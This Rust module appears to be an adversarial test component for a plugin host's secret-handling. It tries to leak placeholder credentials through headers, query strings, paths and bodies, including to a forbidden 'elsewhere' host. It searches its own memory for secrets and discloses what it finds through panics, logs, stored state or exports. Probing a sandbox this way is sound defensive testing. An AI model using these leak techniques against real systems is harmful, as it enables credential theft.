//! Secret exfiltration: sends placeholders in every possible way, keeps the responses, searches its whole
//! memory for secrets, and discloses everything.

use crate::attack::occurrences;
use crate::bindings::entente::integration::data::Error;
use crate::bindings::entente::integration::{log, secrets, state};
use crate::fetch::fetch;
use crate::{error, setting};
use std::sync::Mutex;
use wasip2::http::types::Method;

/// What the last hunt got, for an export that gives it away in its answer.
static GOT: Mutex<String> = Mutex::new(String::new());

/// What was got since it was last asked for.
pub(crate) fn got() -> String {
    GOT.lock().map(|mut got| std::mem::take(&mut *got)).unwrap_or_default()
}

/// One request for each way to carry a placeholder, allowed or not.
fn ask(url: &str) -> Vec<String> {
    let word = |name: &str| secrets::use_(name).unwrap_or_else(|error| error.reason);
    let basic = secrets::basic("me", "key").unwrap_or_else(|error| error.reason);
    let sign = |name: &str| {
        secrets::hmac_sha256(name, b"data").map_or_else(|error| error.reason, |mac| format!("{mac:?}"))
    };
    let requests = [
        (url.to_owned(), "authorization", format!("Bearer {}", word("key"))),
        (url.to_owned(), "x-api-key", word("key")),
        (url.to_owned(), "authorization", basic),
        (url.to_owned(), "x-param", word("param")),
        (format!("{url}?param={}", word("param")), "x-nothing", "none".to_owned()),
        (format!("{url}?other={}", word("param")), "x-sign", word("sign")),
        (format!("{url}/{}", word("key")), "x-middle", format!("a{}b", word("key"))),
        // Where it must not go, so that it is said why.
        (
            format!("{}?param={}", setting("elsewhere"), word("param")),
            "authorization",
            format!("Bearer {}", word("key")),
        ),
    ];
    let mut got = vec![crate::attack::system(), sign("sign"), sign("signing"), word("signing")];
    for (url, name, value) in requests {
        got.push(
            match fetch(
                Method::Post,
                &url,
                &[(name, value.as_str())],
                format!("{value} {}", word("key")).as_bytes(),
            ) {
                Ok(answer) => {
                    let headers = answer
                        .headers
                        .iter()
                        .map(|(name, value)| format!("{name}: {}", String::from_utf8_lossy(value)));
                    format!(
                        "{} {} {}",
                        answer.status,
                        headers.collect::<Vec<_>>().join("; "),
                        String::from_utf8_lossy(&answer.body)
                    )
                }
                Err(reason) => reason,
            },
        );
    }
    got
}

fn pieces(text: &str) -> Vec<String> {
    text.chars().collect::<Vec<_>>().chunks(700).map(|piece| piece.iter().collect()).collect()
}

/// As what is left of a program that has crashed.
fn print(text: &str) {
    let out = wasip2::cli::stderr::get_stderr();
    for piece in pieces(text) {
        if out.blocking_write_and_flush(format!("{}\n", piece.replace('\n', " ")).as_bytes()).is_err() {
            return;
        }
    }
}

/// The setting `reversed` has what to look for, backwards, so that asking for it does not hold it; the
/// setting `then` says how all that came back is given away.
pub(crate) fn hunt() -> Result<(), Error> {
    let got = ask(&setting("url"));
    let reversed = setting("reversed");
    let found: usize = reversed.split(' ').map(|needle| occurrences(needle.as_bytes())).sum();
    let told = format!("found {found}; {}", got.join("\n"));
    match setting("then").as_str() {
        "panic" => {
            print(&told);
            panic!("{told}");
        }
        "log" => {
            print(&told);
            for piece in pieces(&told) {
                log::log(log::Level::Error, &piece, &[("answer".to_owned(), piece.clone())]);
            }
            Ok(())
        }
        "state" => {
            let begin: String = told.chars().take(20_000).collect();
            state::set("seen", begin.as_bytes())?;
            state::set(&format!("answer {}", begin.chars().take(400).collect::<String>()), begin.as_bytes())
        }
        "row" => {
            if let Ok(mut kept) = GOT.lock() {
                *kept = told.chars().take(1500).collect();
            }
            Ok(())
        }
        _ => Err(error("told", told)),
    }
}
